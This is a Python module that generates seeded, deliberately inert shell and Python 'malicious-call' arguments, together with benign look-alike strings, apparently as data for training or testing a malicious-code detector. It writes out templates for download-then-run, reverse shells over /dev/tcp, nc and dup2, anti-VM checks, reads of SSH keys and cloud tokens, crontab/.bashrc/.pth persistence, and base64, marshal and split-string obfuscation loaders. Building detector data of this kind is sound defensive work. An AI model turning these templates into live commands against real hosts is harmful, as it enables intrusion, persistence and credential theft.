"""A seeded grammar of malicious-call ARGUMENTS (shell commands and Python snippets), inert by construction.

Behaviours: reconnaissance, download-then-run, anti-VM/sandbox checks, sleeps, file drops, reverse shells,
environment/credential reads, persistence. Every primitive is inert: output is `echo`ed or written to marker
files under the `temp_dir` the caller gives; network peers are loopback addresses (127.0.0.0/8, ::1,
localhost) on made-up ports; "run" steps of downloaded content only syntax-check it (`sh -n`, `compile`),
reverse shells send a token instead of attaching a shell, persistence writes its lines into files under
`temp_dir`, credential reads keep lengths or existence only. Nothing deletes, nothing reaches another host.

An argument can be encoded (base64, hex, zlib+base64, rot13, marshal of compiled code) and split into pieces
joined at load time; `PayloadArg` carries the pieces, the join expression and the decode expression.

`generate_benign_mentions` is the benign counterpart: strings that merely mention code (docstrings, configs,
vocabularies, usage snippets, logs) with the same tokens, so a feature cannot key on tokens alone.
"""

from __future__ import annotations

import base64
import binascii
import codecs
import marshal
import random
import re
import shlex
import zlib
from dataclasses import dataclass
from enum import StrEnum
from pathlib import PurePosixPath
from types import CodeType


class ArgKind(StrEnum):
    """What the argument is: a shell command line or Python source."""

    SHELL = "shell"
    PYTHON = "python"


class Behaviour(StrEnum):
    """What the (inert) payload code stands for."""

    RECON = "recon"
    DOWNLOAD_RUN = "download_run"
    ANTI_VM = "anti_vm"
    SLEEP = "sleep"
    FILE_DROP = "file_drop"
    REVERSE_SHELL = "reverse_shell"
    ENV_READ = "env_read"
    PERSISTENCE = "persistence"


class Encoding(StrEnum):
    """How the argument text is encoded before it is handed to the loader."""

    PLAIN = "plain"
    BASE64 = "base64"
    HEX = "hex"
    ZLIB_BASE64 = "zlib_base64"
    ROT13 = "rot13"
    MARSHAL = "marshal"
    """Python only: `marshal.dumps(compile(text))`, a bytes payload that decodes to a code object."""


DECODE_EXPRESSIONS: dict[Encoding, tuple[str, ...]] = {
    Encoding.PLAIN: ("data",),
    Encoding.BASE64: (
        "__import__('base64').b64decode(data).decode()",
        "__import__('codecs').decode(data.encode(), 'base64').decode()",
        "__import__('binascii').a2b_base64(data).decode()",
    ),
    Encoding.HEX: ("bytes.fromhex(data).decode()", "__import__('binascii').unhexlify(data).decode()"),
    Encoding.ZLIB_BASE64: (
        "__import__('zlib').decompress(__import__('base64').b64decode(data)).decode()",
        "__import__('codecs').decode(__import__('base64').b64decode(data), 'zlib').decode()",
    ),
    Encoding.ROT13: ("__import__('codecs').decode(data, 'rot13')", "__import__('codecs').encode(data, 'rot_13')"),
    Encoding.MARSHAL: ("__import__('marshal').loads(data)",),
}
"""Python expressions over the name `data` that turn an encoded payload back into source (or a code object)."""

_PIECE_NAME = re.compile(r"\bp(\d+)\b")
_DATA_NAME = re.compile(r"\bdata\b")


@dataclass(frozen=True)
class PayloadArg:
    """One generated argument: its plain text, its encoding, and how to rebuild it at load time."""

    kind: ArgKind
    behaviour: Behaviour
    text: str
    """The plain shell command or Python source."""
    encoding: Encoding
    payload: str | bytes
    """`text` after encoding: what the loader receives once the pieces are joined."""
    pieces: tuple[str | bytes, ...]
    """`payload` cut into pieces (one piece when whole)."""
    join: str
    """Python expression over the names p0..pN-1 that rebuilds `payload` from `pieces`."""
    decode: str
    """Python expression over the name `data` that turns `payload` into the runnable source or code object."""

    def rebuild_expression(self) -> str:
        """Return the join expression with the pieces written in as literals."""
        return _PIECE_NAME.sub(lambda m: repr(self.pieces[int(m.group(1))]), self.join)

    def runnable_expression(self) -> str:
        """Return a Python expression that rebuilds and decodes the payload (source text, command or code)."""
        rebuilt = f"({self.rebuild_expression()})"
        return _DATA_NAME.sub(lambda _: rebuilt, self.decode)

    def loader_source(self) -> str:
        """Return Python source that would rebuild, decode and run the argument (exec, or os.system for shell)."""
        if self.kind == ArgKind.PYTHON:
            return f"exec({self.runnable_expression()})"
        return f"__import__('os').system({self.runnable_expression()})"


# --------------------------------------------------------------------------- inert context


_WORDS = ("cache", "sync", "update", "core", "agent", "svc", "helper", "daemon", "init", "stage", "boot", "cfg",
          "data", "tmp", "run", "job", "task", "lib", "conf", "patch", "node", "edge", "probe", "beacon")
_URL_PATHS = ("x", "s.sh", "p", "stage2", "install.sh", "u", "a.py", "bin", "payload", "init", "v1/get", "dl")
_COMMON_PORTS = (9, 80, 443, 1337, 4444, 5555, 8000, 8080, 8443, 9001, 31337)


class _Ctx:
    """Per-argument inert material: a random token, marker paths under temp_dir, loopback peers."""

    def __init__(self, rng: random.Random, temp_dir: str) -> None:
        self.rng = rng
        self.temp_dir = str(PurePosixPath(temp_dir))
        self.token = f"{rng.choice(_WORDS)}{rng.getrandbits(32):08x}"

    def name(self) -> str:
        """Return a random file or unit name."""
        r = self.rng
        return f"{r.choice(('', '.'))}{r.choice(_WORDS)}{r.choice(('', '-', '_'))}{r.choice(_WORDS)}"

    def marker(self, suffix: str = "") -> str:
        """Return a fresh marker path under temp_dir."""
        r = self.rng
        sub = r.choice(("", "", f"{r.choice(_WORDS)}/", f".{r.choice(_WORDS)}/"))
        ext = suffix or r.choice(("", ".txt", ".log", ".sh", ".dat", ".py", ".bin"))
        return f"{self.temp_dir}/{sub}{self.name()}{ext}"

    def host(self) -> str:
        """Return a loopback address or name (IPv6 unbracketed)."""
        r = self.rng.random()
        if r < 0.4:
            return "127.0.0.1"
        if r < 0.7:
            return f"127.{self.rng.randint(0, 255)}.{self.rng.randint(0, 255)}.{self.rng.randint(1, 254)}"
        if r < 0.85:
            return "localhost"
        return "::1"

    def port(self) -> int:
        """Return a made-up port."""
        return self.rng.choice(_COMMON_PORTS) if self.rng.random() < 0.5 else self.rng.randint(1025, 65000)

    def url(self) -> str:
        """Return an http(s) URL on a loopback peer."""
        host = self.host()
        host = f"[{host}]" if ":" in host else host
        scheme = self.rng.choice(("http", "http", "https"))
        return f"{scheme}://{host}:{self.port()}/{self.rng.choice(_URL_PATHS)}"

    def q(self, text: str) -> str:
        """Return `text` quoted for a POSIX shell."""
        return shlex.quote(text)


# --------------------------------------------------------------------------- shell grammar


def _shell_action(c: _Ctx) -> str:
    """Return the final, visible step: an echo of the token (to stdout, a marker or loopback)."""
    r = c.rng.randrange(4)
    if r == 0:
        return f"echo {c.token}"
    if r == 1:
        return f"echo {c.token} > {c.q(c.marker())}"
    if r == 2:
        return f"printf '%s\\n' {c.token} >> {c.q(c.marker())}"
    return f"touch {c.q(c.marker())}"


def _shell_steps(c: _Ctx, behaviour: Behaviour) -> list[str]:
    """Return the inert shell commands of one behaviour."""
    r, m, tok = c.rng, c.q(c.marker()), c.token
    host, port = c.host(), c.port()
    bash_host = host if host != "::1" else "127.0.0.1"  # /dev/tcp wants a plain host
    if behaviour == Behaviour.RECON:
        pool = ["id", "whoami", "uname -a", "hostname", "pwd", f"ls -la {c.q(c.temp_dir)}", "cat /etc/os-release",
                "echo $USER", "ps aux | head -n 5", "ip addr 2>/dev/null | grep inet", "df -h | tail -n 3"]
        steps = r.sample(pool, r.randint(1, 3))
        if r.random() < 0.5:
            steps = [f"{{ {'; '.join(steps)}; }} > {m} 2>&1"]
        return steps
    if behaviour == Behaviour.DOWNLOAD_RUN:
        url = c.url()
        return [r.choice((
            f"curl -fsSL {url} -o {m} && sh -n {m}",
            f"wget -q -O {m} {url}; bash -n {m}",
            f"curl -s {url} | sh -n",
            f"wget -qO- {url} | bash -n",
            f"curl -k --max-time 2 {url} > {m} && chmod +x {m} && sh -n {m}",
            f"python3 -c {c.q(f'import urllib.request as u; compile(u.urlopen({url!r}, timeout=2).read(), {tok!r}, {chr(39)}exec{chr(39)})')}",
        ))]
    if behaviour == Behaviour.ANTI_VM:
        checks = ["grep -qi hypervisor /proc/cpuinfo && exit 0", "[ -f /.dockerenv ] && exit 0",
                  "[ \"$(nproc)\" -lt 2 ] && exit 0", "systemd-detect-virt -q && exit 0",
                  "grep -q docker /proc/1/cgroup 2>/dev/null && exit 0",
                  "[ \"$(awk '/MemTotal/{print $2}' /proc/meminfo)\" -lt 2000000 ] && exit 0",
                  "test -d /proc/vz && exit 0", "dmesg 2>/dev/null | grep -qi virtual && exit 0"]
        return [*r.sample(checks, r.randint(1, 3)), _shell_action(c)]
    if behaviour == Behaviour.SLEEP:
        delay = r.choice(("1", "2", "3", "0.5", "$((RANDOM % 3))"))
        if r.random() < 0.3:
            return [f"(sleep {delay}; {_shell_action(c)}) &"]
        return [f"sleep {delay}", _shell_action(c)]
    if behaviour == Behaviour.FILE_DROP:
        script = f"#!/bin/sh\necho {tok}\n"
        b64 = base64.b64encode(script.encode()).decode()
        return [r.choice((
            f"printf '#!/bin/sh\\necho {tok}\\n' > {m} && chmod +x {m}",
            f"echo {b64} | base64 -d > {m}; chmod 755 {m}",
            f"cat > {m} <<'EOF'\n{script}EOF",
            f"mkdir -p {c.q(c.temp_dir + '/.' + r.choice(_WORDS))} && echo {tok} > {m}",
            f"echo {b64} | base64 --decode | tee {m} > /dev/null",
        ))]
    if behaviour == Behaviour.REVERSE_SHELL:
        fifo = c.q(c.marker(".fifo"))
        return [r.choice((
            f"bash -c 'echo {tok} > /dev/tcp/{bash_host}/{port}'",
            f"exec 3<>/dev/tcp/{bash_host}/{port}; echo {tok} >&3; exec 3>&-",
            f"nc -z -w1 {host} {port}",
            f"echo {tok} | nc -w1 {host} {port}",
            f"mkfifo {fifo}; cat {fifo} | echo {tok} | nc -w1 {host} {port} > {fifo}",
            f"python3 -c {c.q(f'import socket; socket.create_connection(({host!r}, {port}), 2).sendall(b{tok!r})')}",
        ))]
    if behaviour == Behaviour.ENV_READ:
        var = r.choice(("AWS_SECRET_ACCESS_KEY", "HF_TOKEN", "GITHUB_TOKEN", "OPENAI_API_KEY", "API_KEY", "PASSWORD"))
        return [r.choice((
            f"env | grep -ci token > {m}",
            f"printenv HOME > {m}",
            f"test -r ~/.ssh/id_rsa && echo {tok} > {m}",
            f"ls ~/.aws > /dev/null 2>&1 && echo {tok}",
            f"[ -n \"${var}\" ] && echo {tok} | nc -w1 {host} {port}",
            f"echo ${{#{var}}} > {m}",
            f"cat /proc/self/environ | tr '\\0' '\\n' | wc -l > {m}",
            f"[ -f ~/.netrc ] && echo {tok} >> {m}",
        ))]
    # persistence: every file it writes lives under temp_dir
    home = c.temp_dir
    unit = c.name().lstrip(".") or "svc"
    return [r.choice((
        f"echo '@reboot echo {tok}' >> {c.q(home + '/crontab.txt')}",
        f"echo 'echo {tok}' >> {c.q(home + '/.bashrc')}",
        f"mkdir -p {c.q(home + '/.config/autostart')} && printf '[Desktop Entry]\\nExec=echo {tok}\\n' > "
        f"{c.q(f'{home}/.config/autostart/{unit}.desktop')}",
        f"printf '[Service]\\nExecStart=/bin/echo {tok}\\n' > {c.q(f'{home}/{unit}.service')}",
        f"(cat {c.q(home + '/crontab.txt')} 2>/dev/null; echo '*/5 * * * * echo {tok}') > "
        f"{c.q(home + '/crontab.new')}",
    ))]


def _compose_shell(c: _Ctx, steps: list[str]) -> str:
    """Join shell steps with a random structure: separators, subshells, env vars and wrappers."""
    r = c.rng
    if r.random() < 0.2:
        var = r.choice(("T", "D", "W", "TMPD", "X"))
        steps = [f"{var}={c.q(c.temp_dir)}", *(s.replace(c.temp_dir, f"${var}") for s in steps)]
    has_heredoc = any("<<" in s for s in steps)
    sep = "\n" if has_heredoc else r.choice(("; ", " && ", "\n", ";"))
    text = sep.join(steps)
    shape = r.random()
    if has_heredoc or shape < 0.45:
        return text
    if shape < 0.55:
        return f"( {text} )" if "\n" not in text else f"(\n{text}\n)"
    if shape < 0.7:
        return f"{r.choice(('sh', 'bash', '/bin/sh', '/bin/bash'))} -c {c.q(text)}"
    if shape < 0.78:
        return f"nohup sh -c {c.q(text)} >/dev/null 2>&1 &"
    if shape < 0.88:
        b64 = base64.b64encode(text.encode()).decode()
        return f"echo {b64} | base64 -d | {r.choice(('sh', 'bash'))}"
    py = f"import os; os.system({text!r})" if r.random() < 0.5 else (
        f"import subprocess; subprocess.call({text!r}, shell=True)")
    return f"{r.choice(('python3', 'python'))} -c {c.q(py)}"


# --------------------------------------------------------------------------- python grammar


def _module_ref(c: _Ctx, module: str, imports: list[str]) -> str:
    """Return an expression for `module`, appending any import statement it needs."""
    r = c.rng.randrange(6)
    if r == 0:
        imports.append(f"import {module}")
        return module
    if r == 1:
        alias = "_" + module.replace(".", "_")[:3]
        imports.append(f"import {module} as {alias}")
        return alias
    if r == 2:
        return f"__import__({module!r})" if "." not in module else f"__import__({module!r}, fromlist=['_'])"
    if r == 3:
        imports.append("import importlib")
        return f"importlib.import_module({module!r})"
    if r == 4 and len(module) > 2 and "." not in module:
        cut = c.rng.randint(1, len(module) - 1)
        return f"__import__({module[:cut]!r} + {module[cut:]!r})"
    return f"__import__('importlib').import_module({module!r})"


def _attr_ref(c: _Ctx, obj: str, name: str) -> str:
    """Return an expression for `obj.name`: plain, via getattr, or via a split string."""
    r = c.rng.randrange(4)
    if r == 0:
        return f"{obj}.{name}"
    if r == 1:
        return f"getattr({obj}, {name!r})"
    if r == 2 and len(name) > 2:
        cut = c.rng.randint(1, len(name) - 1)
        return f"getattr({obj}, {name[:cut]!r} + {name[cut:]!r})"
    return f"vars({obj})[{name!r}]"


def _py_call(c: _Ctx, imports: list[str], module: str, func: str, args: str) -> str:
    """Return a call expression `module.func(args)` written in one of the reference styles."""
    return f"{_attr_ref(c, _module_ref(c, module, imports), func)}({args})"


def _py_token_sink(c: _Ctx, imports: list[str]) -> str:
    """Return a statement that makes the token visible: print, marker file or loopback send."""
    r = c.rng.randrange(4)
    if r == 0:
        return f"print({c.token!r})"
    if r == 1:
        return f"open({c.marker()!r}, {c.rng.choice(('w', 'a'))!r}).write({c.token!r})"
    if r == 2:
        return f"{_py_call(c, imports, 'pathlib', 'Path', repr(c.marker()))}.write_text({c.token!r})"
    return f"{_py_call(c, imports, 'os', 'system', repr('echo ' + c.token))}"


def _python_steps(c: _Ctx, behaviour: Behaviour, imports: list[str]) -> list[str]:
    """Return the inert Python simple statements of one behaviour (no compound statements)."""
    r, tok, host, port, m = c.rng, c.token, c.host(), c.port(), c.marker()
    if r.random() < 0.3:  # Python that hands a shell command of the same behaviour to the system
        cmd = _compose_shell(c, _shell_steps(c, behaviour))
        runner = r.choice((("os", "system", repr(cmd)), ("subprocess", "run", f"{cmd!r}, shell=True"),
                           ("subprocess", "Popen", f"['sh', '-c', {cmd!r}]"),
                           ("subprocess", "check_output", f"{cmd!r}, shell=True"), ("os", "popen", repr(cmd))))
        return [_py_call(c, imports, *runner)]
    if behaviour == Behaviour.RECON:
        info = r.choice((("platform", "uname", ""), ("getpass", "getuser", ""), ("socket", "gethostname", ""),
                         ("os", "getcwd", ""), ("os", "listdir", repr(c.temp_dir))))
        return [f"info = str({_py_call(c, imports, *info)})",
                f"open({m!r}, 'w').write(info)" if r.random() < 0.5 else "print(info)"]
    if behaviour == Behaviour.DOWNLOAD_RUN:
        fetch = _py_call(c, imports, "urllib.request", "urlopen", f"{c.url()!r}, timeout=2")
        steps = [f"body = {fetch}.read()"]
        if r.random() < 0.5:
            steps.append(f"code = compile(body, {r.choice(('<string>', '<stage2>', tok))!r}, 'exec')")
        else:
            steps += [f"open({m!r}, 'wb').write(body)",
                      _py_call(c, imports, "subprocess", "call", f"['sh', '-n', {m!r}]")]
        return steps
    if behaviour == Behaviour.ANTI_VM:
        cond = r.choice((
            f"({_py_call(c, imports, 'os', 'cpu_count', '')} or 1) < 2",
            f"{_py_call(c, imports, 'os.path', 'exists', repr('/.dockerenv'))}",
            "'hypervisor' in open('/proc/cpuinfo').read()",
            f"{_py_call(c, imports, 'platform', 'node', '')}.lower().startswith(('sandbox', 'vm', 'analysis'))",
            f"{_py_call(c, imports, 'uuid', 'getnode', '')} >> 24 in (0x080027, 0x000C29, 0x005056)",
        ))
        return [f"{_py_call(c, imports, 'sys', 'exit', '0')} if {cond} else None", _py_token_sink(c, imports)]
    if behaviour == Behaviour.SLEEP:
        delay = r.choice(("1", "2", "0.5", "3"))
        if r.random() < 0.3:
            return [f"{_py_call(c, imports, 'threading', 'Timer', f'{delay}, print, ({tok!r},)')}.start()"]
        return [_py_call(c, imports, "time", "sleep", delay), _py_token_sink(c, imports)]
    if behaviour == Behaviour.FILE_DROP:
        script = f"#!/bin/sh\necho {tok}\n"
        b64 = base64.b64encode(script.encode()).decode()
        write = r.choice((f"open({m!r}, 'w').write({script!r})",
                          f"open({m!r}, 'wb').write({_py_call(c, imports, 'base64', 'b64decode', repr(b64))})"))
        return [write, _py_call(c, imports, "os", "chmod", f"{m!r}, 0o755")]
    if behaviour == Behaviour.REVERSE_SHELL:
        family = "socket.AF_INET6" if host == "::1" else "socket.AF_INET"
        if r.random() < 0.5:
            return [f"s = {_py_call(c, imports, 'socket', 'create_connection', f'({host!r}, {port}), 2')}",
                    f"s.sendall({tok.encode()!r})"]
        imports.append("import socket")
        return [f"s = socket.socket({family}, socket.SOCK_STREAM)", f"s.connect(({host!r}, {port}))",
                "[__import__('os').dup2(s.fileno(), fd) for fd in (0, 1, 2)]",
                _py_call(c, imports, *r.choice((("subprocess", "call"), ("pty", "spawn"))), f"['echo', {tok!r}]")]
    if behaviour == Behaviour.ENV_READ:
        var = r.choice(("AWS_SECRET_ACCESS_KEY", "HF_TOKEN", "GITHUB_TOKEN", "OPENAI_API_KEY", "API_KEY"))
        env = _attr_ref(c, _module_ref(c, "os", imports), "environ")
        return [r.choice((
            f"n = len({env}.get({var!r}, ''))",
            f"n = len([k for k in {env} if 'TOKEN' in k or 'KEY' in k])",
            f"n = {_py_call(c, imports, 'os.path', 'exists', repr('~/.aws/credentials'))}",
        )), r.choice((f"open({m!r}, 'w').write(str(n))",
                      f"{_py_call(c, imports, 'socket', 'create_connection', f'({host!r}, {port}), 2')}"
                      f".sendall(str(n).encode())"))]
    home = c.temp_dir
    line = f"echo {tok}"
    target, content = r.choice((
        (f"{home}/.bashrc", f"{line}\n"), (f"{home}/crontab.txt", f"@reboot {line}\n"),
        (f"{home}/sitecustomize.py", f"import os\nos.system({line!r})\n"),
        (f"{home}/{c.name().lstrip('.') or 'x'}.pth", f"import os; os.system({line!r})\n"),
        (f"{home}/.config/autostart/{c.name().lstrip('.') or 'x'}.desktop", f"[Desktop Entry]\nExec={line}\n"),
    ))
    parent = str(PurePosixPath(target).parent)
    return [_py_call(c, imports, "os", "makedirs", f"{parent!r}, exist_ok=True"),
            f"open({target!r}, 'a').write({content!r})"]


def _compose_python(c: _Ctx, steps: list[str], imports: list[str]) -> str:
    """Join Python statements: one-liner, multi-line, or wrapped in try/except or a function."""
    r = c.rng
    lines = list(dict.fromkeys(imports)) + steps
    shape = r.random()
    if shape < 0.35:
        return "; ".join(lines)
    if shape < 0.6:
        return "\n".join(lines)
    if shape < 0.75:
        body = "\n".join("    " + s for s in lines)
        return f"try:\n{body}\nexcept Exception:\n    pass"
    if shape < 0.9:
        fn = r.choice(("_f", "main", "_init", "run", "setup", "_x"))
        body = "\n".join("    " + s for s in lines)
        return f"def {fn}():\n{body}\n{fn}()"
    inner = "; ".join(lines)
    return f"exec({inner!r})"


# --------------------------------------------------------------------------- encoders


def encode_text(text: str, encoding: Encoding, *, filename: str = "<string>") -> str | bytes:
    """Return `text` encoded (MARSHAL compiles it as Python source first)."""
    raw = text.encode()
    if encoding == Encoding.PLAIN:
        return text
    if encoding == Encoding.BASE64:
        return base64.b64encode(raw).decode()
    if encoding == Encoding.HEX:
        return binascii.hexlify(raw).decode()
    if encoding == Encoding.ZLIB_BASE64:
        return base64.b64encode(zlib.compress(raw)).decode()
    if encoding == Encoding.ROT13:
        return codecs.encode(text, "rot13")
    if encoding == Encoding.MARSHAL:
        return marshal.dumps(compile(text, filename, "exec"))
    raise ValueError(f"unknown encoding {encoding!r}")


def decode_payload(payload: str | bytes, encoding: Encoding) -> str | CodeType:
    """Return the source (or, for MARSHAL, the code object, never run) that an encoded payload stands for."""
    if encoding == Encoding.PLAIN:
        return str(payload)
    if encoding == Encoding.BASE64:
        return base64.b64decode(payload).decode()
    if encoding == Encoding.HEX:
        return bytes.fromhex(str(payload)).decode()
    if encoding == Encoding.ZLIB_BASE64:
        return zlib.decompress(base64.b64decode(payload)).decode()
    if encoding == Encoding.ROT13:
        return codecs.decode(str(payload), "rot13")
    if encoding == Encoding.MARSHAL:
        if not isinstance(payload, bytes):
            raise TypeError("a marshal payload is bytes")
        return marshal.loads(payload)
    raise ValueError(f"unknown encoding {encoding!r}")


def split_payload(rng: random.Random, payload: str | bytes, n_pieces: int) -> tuple[tuple[str | bytes, ...], str]:
    """Return `payload` cut into up to `n_pieces` non-empty pieces and a Python expression over p0.. joining them."""
    n = max(1, min(n_pieces, len(payload)))
    cuts = sorted(rng.sample(range(1, len(payload)), n - 1)) if n > 1 else []
    bounds = [0, *cuts, len(payload)]
    pieces = tuple(payload[a:b] for a, b in zip(bounds, bounds[1:], strict=False))
    names = [f"p{i}" for i in range(len(pieces))]
    if len(pieces) == 1:
        return pieces, "p0"
    empty = "b''" if isinstance(payload, bytes) else "''"
    style = rng.randrange(4)
    if style == 0:
        join = " + ".join(names)
    elif style == 1:
        join = f"{empty}.join([{', '.join(names)}])"
    elif style == 2:
        join = f"{empty}.join(({', '.join(names)},))"
    else:
        join = f"{empty}.join(reversed([{', '.join(reversed(names))}]))"
    return pieces, join


# --------------------------------------------------------------------------- public generators


def make_payload_arg(
    rng: random.Random,
    temp_dir: str,
    *,
    kind: ArgKind | None = None,
    behaviour: Behaviour | None = None,
    encoding: Encoding | None = None,
    n_pieces: int | None = None,
) -> PayloadArg:
    """Return one inert argument drawn from the grammar (unset choices are drawn from `rng`)."""
    kind = kind if kind is not None else rng.choice(tuple(ArgKind))
    behaviour = behaviour if behaviour is not None else rng.choice(tuple(Behaviour))
    if encoding is None:
        choices = [e for e in Encoding if kind == ArgKind.PYTHON or e != Encoding.MARSHAL]
        encoding = Encoding.PLAIN if rng.random() < 0.4 else rng.choice(choices)
    if encoding == Encoding.MARSHAL and kind != ArgKind.PYTHON:
        raise ValueError("marshal encoding only applies to Python arguments")
    c = _Ctx(rng, temp_dir)
    if kind == ArgKind.SHELL:
        text = _compose_shell(c, _shell_steps(c, behaviour))
    else:
        imports: list[str] = []
        steps = _python_steps(c, behaviour, imports)
        text = _compose_python(c, steps, imports)
    filename = rng.choice(("<string>", "<payload>", "", f"{c.name().lstrip('.')}.py"))
    payload = encode_text(text, encoding, filename=filename)
    if n_pieces is None:
        n_pieces = 1 if rng.random() < 0.65 else rng.randint(2, 6)
    pieces, join = split_payload(rng, payload, n_pieces)
    decode = rng.choice(DECODE_EXPRESSIONS[encoding])
    return PayloadArg(kind, behaviour, text, encoding, payload, pieces, join, decode)


def generate_payload_args(
    seed: int | str,
    n: int,
    temp_dir: str,
    *,
    kinds: tuple[ArgKind, ...] = tuple(ArgKind),
    behaviours: tuple[Behaviour, ...] = tuple(Behaviour),
    encodings: tuple[Encoding, ...] | None = None,
) -> list[PayloadArg]:
    """Return `n` inert arguments from one seed, cycling through kinds and behaviours for coverage."""
    rng = random.Random(f"payload-args|{seed}")
    out = []
    for i in range(n):
        kind = kinds[i % len(kinds)]
        behaviour = behaviours[(i // len(kinds)) % len(behaviours)]
        encoding = None
        if encodings is not None:
            allowed = [e for e in encodings if kind == ArgKind.PYTHON or e != Encoding.MARSHAL] or [Encoding.PLAIN]
            encoding = rng.choice(allowed)
        out.append(make_payload_arg(rng, temp_dir, kind=kind, behaviour=behaviour, encoding=encoding))
    return out


# --------------------------------------------------------------------------- benign counterpart


@dataclass(frozen=True)
class BenignMention:
    """A benign string value that merely mentions code (kind says what it imitates)."""

    kind: str
    text: str


_CODE_WORDS = ("exec", "system", "os", "eval", "shell", "curl", "bash", "subprocess", "import", "socket",
               "wget", "popen", "sh", "cmd", "run", "compile", "base64", "marshal", "pickle", "token", "sudo",
               "chmod", "environ", "sleep", "connect", "127.0.0.1", "localhost", "/tmp", "/dev/null", "&&", "|")
_PROSE = ("Returns", "Computes", "Loads", "Stores", "Runs", "Evaluates", "Builds", "Applies", "Wraps", "Handles")


def _benign_one(rng: random.Random, kind: str) -> str:
    """Return one benign text of a kind."""
    w = rng.choice
    if kind == "docstring":
        return (f"{w(_PROSE)} the {w(('model', 'tokenizer', 'batch', 'config', 'layer'))}. Unlike `{w(('exec', 'eval'))}`, "
                f"this never runs code: it {w(('parses', 'reads', 'validates'))} the "
                f"{w(('shell', 'system', 'os', 'environment'))} settings with `{w(('ast.literal_eval', 'json.loads', 'shlex.split'))}`.")
    if kind == "config":
        key = w(("executor", "eval_strategy", "shell", "system_prompt", "os_type", "cmd_args", "exec_mode",
                 "tracking_uri", "cache_dir", "run_name", "launcher", "download_cmd"))
        value = w(("shell", "steps", "You are a helpful system.", "linux", "--epochs 3 --lr 1e-4", "eager",
                   f"http://127.0.0.1:{rng.randint(5000, 9000)}", f"/tmp/{w(_WORDS)}_cache", f"run-{rng.randint(1, 999)}",
                   "torchrun --nproc_per_node 2", "curl -L -o data.tar.gz $DATA_URL"))
        return f"{key}: {value}"
    if kind == "vocabulary":
        words = rng.sample(_CODE_WORDS, rng.randint(3, 8)) + rng.sample(_WORDS, 3)
        rng.shuffle(words)
        return " ".join(words)
    if kind == "usage":
        return w((
            "pip install -U transformers && python train.py --config cfg.yaml",
            "import torch\nmodel = torch.load('model.pt', weights_only=True)\nmodel.eval()",
            "bash scripts/download.sh && python -m eval --split test",
            "from subprocess import run  # only used by the CLI, never at load time",
            "docker run --rm -v $PWD:/work image:latest python eval.py",
            "curl -O https://example.org/model.bin && sha256sum model.bin",
            "os.environ['CUDA_VISIBLE_DEVICES'] = '0'",
            "def forward(self, x):\n    return self.proj(torch.relu(self.fc(x)))",
        ))
    if kind == "log":
        return w((f"step {rng.randint(1, 9999)} eval_loss={rng.random():.4f} exec_time={rng.random() * 9:.2f}s",
                  f"connected to 127.0.0.1:{rng.randint(1024, 65000)} (tracking server)",
                  f"saved checkpoint to /tmp/{w(_WORDS)}/ckpt-{rng.randint(1, 500)}",
                  f"system: {rng.randint(1, 64)} cpus, os=linux, shell=/bin/bash"))
    return base64.b64encode(f"{w(_WORDS)}:{rng.getrandbits(64):x}".encode()).decode()


BENIGN_MENTION_KINDS: tuple[str, ...] = ("docstring", "config", "vocabulary", "usage", "log", "encoded_id")
"""The kinds of benign strings `generate_benign_mentions` produces."""


def generate_benign_mentions(seed: int | str, n: int) -> list[BenignMention]:
    """Return `n` benign strings that mention code words, shell syntax, loopback and temp paths."""
    rng = random.Random(f"benign-mentions|{seed}")
    return [BenignMention(kind, _benign_one(rng, kind))
            for kind in (BENIGN_MENTION_KINDS[i % len(BENIGN_MENTION_KINDS)] for i in range(n))]
